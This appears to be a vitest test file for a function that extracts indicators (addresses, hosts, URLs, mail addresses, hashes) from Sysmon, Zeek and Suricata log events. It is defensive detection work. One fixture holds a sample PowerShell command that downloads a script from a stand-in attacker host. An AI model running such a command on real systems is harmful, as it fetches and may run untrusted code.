import { expect, test } from "vitest";
import { OBSERVED_MAX, observe } from "./observe.js";

type Fields = Parameters<typeof observe>[0];

const cases: [name: string, fields: Fields, seen: readonly string[]][] = [
  ["an address in any field", { "c-ip": "203.0.113.9" }, ["address 203.0.113.9 in c-ip"]],
  ["a mapped address as IPv4", { dst: "::ffff:203.0.113.9" }, ["address 203.0.113.9 in dst"]],
  [
    "an address with port and zone",
    { a: "203.0.113.9:443", b: "fe80::1%eth0" },
    ["address 203.0.113.9 in a", "address fe80::1 in b"],
  ],
  ["a host where hosts stand", { QueryName: "WWW.Evil.example." }, ["host www.evil.example in QueryName"]],
  ["no host where a file stands", { file: "install.sh", assembly: "System.Net.Http" }, []],
  ["no address in a version", { FileVersion: "6.1.7.2", version: "1.2.3.4" }, []],
  ["a URL and its host", { x: "http://evil.example/a" }, ["url http://evil.example/a in x", "host evil.example in x"]],
  [
    "a URL at an address",
    { x: "http://203.0.113.9:81/" },
    ["url http://203.0.113.9:81/ in x", "address 203.0.113.9 in x"],
  ],
  [
    "a mail address and its host",
    { user: "A@Evil.example" },
    ["mail a@evil.example in user", "host evil.example in user"],
  ],
  ["a hash by its length", { file: { sha1: "AB".repeat(20) } }, [`hash ${"ab".repeat(20)} in file.sha1`]],
  [
    "the hashes of Sysmon",
    { Hashes: `MD5=${"0A".repeat(16)},SHA256=${"1B".repeat(32)}` },
    [`hash ${"0a".repeat(16)} in Hashes`, `hash ${"1b".repeat(32)} in Hashes`],
  ],
  [
    "the DNS answers of Sysmon",
    { QueryResults: "type:  5 cdn.evil.example;::ffff:203.0.113.9;" },
    ["host cdn.evil.example in QueryResults", "address 203.0.113.9 in QueryResults"],
  ],
  [
    "URLs and addresses of a command",
    { CommandLine: `powershell -c "iwr 'https://evil.example/a.ps1' -Proxy 203.0.113.9:8080"` },
    [
      "url https://evil.example/a.ps1 in CommandLine",
      "host evil.example in CommandLine",
      "address 203.0.113.9 in CommandLine",
    ],
  ],
  [
    "hosts of a message, without its full stop, and no file",
    { message: "Connection to evil.example. refused by sshd.service, see /var/log/auth.log" },
    ["host evil.example in message"],
  ],
  [
    "a request that Zeek writes in parts",
    { host: "evil.example", uri: "/a?b=1" },
    ["host evil.example in host", "url http://evil.example/a?b=1 in uri", "url https://evil.example/a?b=1 in uri"],
  ],
  [
    "a request that Suricata writes in parts",
    { http: { hostname: "evil.example", url: "/x" } },
    [
      "host evil.example in http.hostname",
      "url http://evil.example/x in http.url",
      "url https://evil.example/x in http.url",
    ],
  ],
  [
    "values of lists by their place",
    { urls: [{ u: "http://evil.example/" }] },
    ["url http://evil.example/ in urls.0.u", "host evil.example in urls.0.u"],
  ],
  [
    "a URL within a sentence of any field",
    { note: "see https://evil.example/a." },
    ["url https://evil.example/a in note", "host evil.example in note"],
  ],
  ["nothing in numbers, booleans and blanks", { a: 1, b: true, c: null, d: "", e: "   " }, []],
];
for (const [name, fields, seen] of cases) {
  test(`sees ${name}`, () => {
    const { observables, isCut } = observe(fields);
    expect(observables.map(({ kind, key, field }) => `${kind} ${key} in ${field}`)).toEqual(seen);
    expect(isCut).toBe(false);
  });
}

test("an event that holds very much is looked at in part and says so", () => {
  const many = observe({
    list: Array.from({ length: 2 * OBSERVED_MAX }, (_, index) => `10.0.${index >> 8}.${index & 255}`),
  });
  expect([many.observables.length, many.isCut]).toEqual([OBSERVED_MAX, true]);
  let deep: Fields = { ip: "203.0.113.9" };
  for (let level = 0; level < 100; level += 1) deep = { deep };
  expect(observe(deep)).toEqual({ observables: [], isCut: true });
  expect(observe({ message: `${"x ".repeat(20_000)}203.0.113.9` }).isCut).toBe(true);
});

test("names of an object's own workings are fields like others", () => {
  const fields: Fields = Object.fromEntries<Fields[string]>([
    ["__proto__", { ip: "203.0.113.9" }],
    ["constructor", "http://evil.example/"],
  ]);
  expect(observe(fields).observables.map(({ field }) => field)).toEqual(["__proto__.ip", "constructor", "constructor"]);
});
